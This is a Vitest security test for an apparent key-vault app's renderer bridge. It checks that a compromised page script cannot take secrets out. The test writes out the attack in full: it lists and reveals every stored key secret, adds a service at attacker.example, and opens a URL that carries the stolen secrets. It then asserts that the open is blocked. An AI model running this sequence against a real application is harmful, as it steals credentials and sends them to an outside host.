// Issue 9 item 1: what page script in a compromised renderer can do with the bridge alone.
// The attack: list the keys, reveal each one, add a service of its own and open a link to it
// carrying every secret. It must end with nothing opened and at most the burst revealed.
import { describe, expect, it } from 'vitest';
import { sampleKey } from '../core/test/sample-keys';
import { bridgeSetup } from './test/bridge-setup';

const KEY_COUNT = 8;

describe('a compromised renderer cannot take the secrets out', () => {
  it('list, reveal each, add an attacker service, open it: nothing opened, at most 5 revealed', async () => {
    const { api, core } = await bridgeSetup();
    expect((await api.vault.create({})).ok).toBe(true);
    for (let n = 1; n <= KEY_COUNT; n++) {
      const input = sampleKey(n);
      const added = await api.keys.add({ ...input, apiKey: input.apiKey ?? '' });
      if (!added.ok) throw new Error(added.message);
    }

    // The page script, with nothing but window.keyward.
    const list = await api.keys.list({});
    if (!list.ok) throw new Error(list.message);
    expect(list.value.keys).toHaveLength(KEY_COUNT);
    const stolen: string[] = [];
    for (const key of list.value.keys) {
      const revealed = await api.keys.reveal({ keyId: key.id, field: 'secret' });
      if (revealed.ok) stolen.push(revealed.value.value);
    }
    await api.services.add({ name: 'Totally legit', url: 'https://attacker.example' });
    const exfil = `https://attacker.example/?d=${encodeURIComponent(stolen.join(','))}`;
    const opened = await api.app.openExternal({ url: exfil });
    // Also without a query, and to the bare origin: a service URL is never opened this way.
    const bare = await api.app.openExternal({ url: 'https://attacker.example/' });

    expect(opened.ok).toBe(false);
    expect(bare.ok).toBe(false);
    expect(core.opened).toEqual([]);
    expect(stolen.length).toBeLessThanOrEqual(5);
    // The rest of the keys stayed in the vault, unrevealed.
    const secrets = Array.from({ length: KEY_COUNT }, (_, i) => sampleKey(i + 1).secret);
    expect(secrets.filter((s) => stolen.includes(s)).length).toBe(stolen.length);
  });
});
